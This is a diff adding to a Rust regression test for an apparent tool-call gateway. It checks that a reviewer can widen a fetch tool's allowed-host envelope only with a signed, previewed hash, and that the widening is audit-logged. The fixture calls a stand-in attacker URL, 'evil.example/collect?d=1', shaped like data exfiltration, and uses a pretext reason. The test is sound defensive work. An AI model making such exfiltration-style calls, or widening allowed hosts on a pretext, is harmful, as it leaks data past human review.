@@ -270,6 +270,90 @@ fn regression_call_to_a_host_outside_the_envelope_is_held() {
     );
     assert_eq!(held["verdict"]["envelope"][0]["action"], "held", "{held}");
     assert_verifiable(&p.gw, &reviewer, *index, held);
+
+    // The envelope is shown with the surface; a reviewer widens it by the
+    // held call's findings with a signed decision on the widened hash.
+    let view = p.gw.api_get(&reviewer, "/api/v1/servers/env");
+    let fetch = view["envelopes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|e| e["tool"] == "fetch")
+        .unwrap_or_else(|| panic!("no envelope shown: {view}"));
+    assert_eq!(fetch["state"], "fixed", "{fetch}");
+    assert_eq!(
+        fetch["envelope"]["arg_hosts"],
+        json!(["api.example.com"]),
+        "{fetch}"
+    );
+    let preview = p.gw.api_get(
+        &reviewer,
+        &format!("/api/v1/servers/env/envelopes/fetch/widening?leaf={index}"),
+    );
+    assert_eq!(preview["current_hash"], fetch["hash"], "{preview}");
+    let widened = preview["widened_hash"].as_str().unwrap();
+    // A hash other than the one shown signs nothing.
+    let out = p.gw.cli(&[
+        "servers",
+        "widen",
+        "env",
+        "fetch",
+        "--leaf",
+        &index.to_string(),
+        "--reason",
+        "x",
+        "--hash",
+        fetch["hash"].as_str().unwrap(),
+    ]);
+    assert!(!out.status.success(), "{}", crate::util::stdout(&out));
+    let out = p.gw.cli(&[
+        "servers",
+        "widen",
+        "env",
+        "fetch",
+        "--leaf",
+        &index.to_string(),
+        "--reason",
+        "evil.example is our new mirror",
+        "--hash",
+        widened,
+    ]);
+    assert!(
+        out.status.success(),
+        "widen: {}{}",
+        crate::util::stdout(&out),
+        crate::util::stderr(&out)
+    );
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
+    loop {
+        let r = call(
+            &p.gw,
+            "py",
+            "env__fetch",
+            json!({"url": "https://evil.example/collect?d=1"}),
+        );
+        if text(&r) == "fetched https://evil.example/collect?d=1" {
+            break;
+        }
+        assert!(
+            std::time::Instant::now() < deadline,
+            "never served after widening: {r}"
+        );
+        std::thread::sleep(std::time::Duration::from_millis(300));
+    }
+    let log = p.gw.api_get(&reviewer, "/api/v1/log?from=0&limit=1000");
+    let widened_leaf = log["entries"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|e| e["entry"]["type"] == "tool.envelope_widened")
+        .unwrap_or_else(|| panic!("no widening leaf: {log}"));
+    assert_eq!(
+        widened_leaf["entry"]["envelope_hash"], widened,
+        "{widened_leaf}"
+    );
+    assert_eq!(widened_leaf["entry"]["from_leaf"], *index, "{widened_leaf}");
+    p.gw.assert_audit_clean();
 }
 
 /// `mode = "monitor"` records the same finding and holds nothing.
